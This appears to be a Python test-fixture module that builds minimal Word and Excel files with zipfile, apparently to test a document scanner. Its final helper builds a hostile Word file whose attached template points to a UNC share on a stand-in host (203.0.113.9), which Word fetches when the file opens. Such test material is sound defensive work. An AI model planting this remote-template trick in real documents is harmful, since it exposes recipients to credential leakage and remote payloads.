"""Office Open XML files in tests, built with zipfile: the least a Word document or an Excel workbook needs to open,
and the parts and relationships that make one hostile (a template on a network drive, macros, an OLE object)."""

import io
import zipfile

CT = "application/vnd.openxmlformats-officedocument"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W_STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
REL_STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def _types(overrides: dict[str, str]) -> str:
    items = "".join(f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in overrides.items())
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>'
        f"{items}</Types>"
    )


def rels(*relationships: tuple[str, str] | tuple[str, str, str]) -> str:
    """A relationships part: (type, target) or (type, target, "External"); a type without a slash is one of
    officeDocument's."""
    items = []
    for number, (kind, target, *mode) in enumerate(relationships, start=1):
        kind = kind if "/" in kind else f"{REL}/{kind}"
        mode = f' TargetMode="{mode[0]}"' if mode else ""
        items.append(f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"{mode}/>')
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_RELS}">{"".join(items)}</Relationships>'
    )


def package(parts: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def word_body(paragraphs: str = "<w:p><w:r><w:t>Support for children with SEND</w:t></w:r></w:p>") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}"><w:body>{paragraphs}</w:body></w:document>'


def _office_parts(main: str, types: dict[str, str], parts: dict[str, str]) -> dict[str, str | bytes]:
    """A package of ``parts`` whose content types are ``types``, the first part listed being its main part."""
    return {"[Content_Types].xml": _types(types), "_rels/.rels": rels(("officeDocument", main)), **parts}


def docx_parts(
    *, body: str | None = None, document_rels=(), settings_rels=(), types: dict[str, str] | None = None
) -> dict[str, str | bytes]:
    """The parts of a minimal Word document, with the document's and its settings' relationships given."""
    content_types = {
        "word/document.xml": f"{CT}.wordprocessingml.document.main+xml",
        "word/settings.xml": f"{CT}.wordprocessingml.settings+xml",
        **(types or {}),
    }
    template = f'<w:attachedTemplate r:id="rId1" xmlns:r="{REL}"/>' if settings_rels else ""
    parts = {
        "word/document.xml": word_body() if body is None else word_body(body),
        "word/_rels/document.xml.rels": rels(("settings", "settings.xml"), *document_rels),
        "word/settings.xml": f'<?xml version="1.0"?><w:settings xmlns:w="{W}">{template}</w:settings>',
    }
    if settings_rels:
        parts["word/_rels/settings.xml.rels"] = rels(*settings_rels)
    return _office_parts("word/document.xml", content_types, parts)


def strict(parts: dict[str, str | bytes]) -> dict[str, str | bytes]:
    """The same parts in Strict Open XML's namespaces (Word's "Strict Open XML Document" format)."""
    return {
        name: content.replace(W, W_STRICT).replace(REL, REL_STRICT) if isinstance(content, str) else content
        for name, content in parts.items()
    }


def docx(**kwargs) -> bytes:
    return package(docx_parts(**kwargs))


def xlsx_parts(*, workbook_rels=(), types: dict[str, str] | None = None, cells: str = "") -> dict[str, str | bytes]:
    """The parts of a minimal Excel workbook of one sheet, with the workbook's relationships and more of the first
    row's cells given."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    cells = '<c r="A1" t="inlineStr"><is><t>Oakfield</t></is></c><c r="B1"><v>42</v></c>' + cells
    parts = {
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{main}" xmlns:r="{REL}"><sheets>'
        '<sheet name="Schools" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": rels(("worksheet", "worksheets/sheet1.xml"), *workbook_rels),
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?><worksheet xmlns="{main}"><sheetData><row r="1">'
        f"{cells}</row></sheetData></worksheet>",
    }
    content_types = {
        "xl/workbook.xml": f"{CT}.spreadsheetml.sheet.main+xml",
        "xl/worksheets/sheet1.xml": f"{CT}.spreadsheetml.worksheet+xml",
    }
    return _office_parts("xl/workbook.xml", {**content_types, **(types or {})}, parts)


def xlsx(**kwargs) -> bytes:
    return package(xlsx_parts(**kwargs))


def unc_template_docx() -> bytes:
    """The penetration test's file: a template on a network share, which Word fetches when the file opens."""
    return docx(settings_rels=[("attachedTemplate", r"\\203.0.113.9\share\Normal.dotm", "External")])
